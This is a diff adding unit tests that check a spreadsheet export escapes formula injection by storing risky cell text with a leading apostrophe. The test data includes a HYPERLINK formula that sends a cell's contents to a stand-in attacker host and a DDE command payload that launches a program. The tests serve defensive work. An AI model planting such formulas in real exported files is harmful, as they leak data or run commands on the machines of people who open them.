@@ -109,3 +109,33 @@ def test_fill_worksheet_writes_into_an_existing_sheet():
     assert sheet.title == "Tổng hợp"
     assert sheet["A2"].number_format == DATE_FORMAT
     assert sheet["A1"].font.bold
+
+
+# --- formula injection ------------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+def test_text_that_a_spreadsheet_reads_as_a_formula_is_written_as_text():
+    hostile = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
+    book = _book(
+        [SheetTable("Nhập", [gettext_lazy("Year"), "=Tiêu đề"], [[text, -5] for text in hostile])]
+    )
+    sheet = book["Nhập"]
+    assert sheet["B1"].value == "'=Tiêu đề"
+    for number, text in enumerate(hostile, start=2):
+        cell = sheet.cell(row=number, column=1)
+        assert cell.data_type == "s", text
+        assert cell.value == "'" + text.replace("\r", "\n")  # XML keeps no bare CR
+        # numbers stay numbers, negative ones included
+        assert sheet.cell(row=number, column=2).value == -5
+        assert sheet.cell(row=number, column=2).data_type == "n"
+
+
+def test_ordinary_text_is_written_as_it_is():
+    book = _book([SheetTable("Nhập", ["Tên"], [["Nguyễn Thị Hằng"], ["a=b"], ["'trích'"]])])
+    assert [row[0] for row in book["Nhập"].iter_rows(min_row=2, values_only=True)] == [
+        "Nguyễn Thị Hằng",
+        "a=b",
+        "'trích'",
+    ]
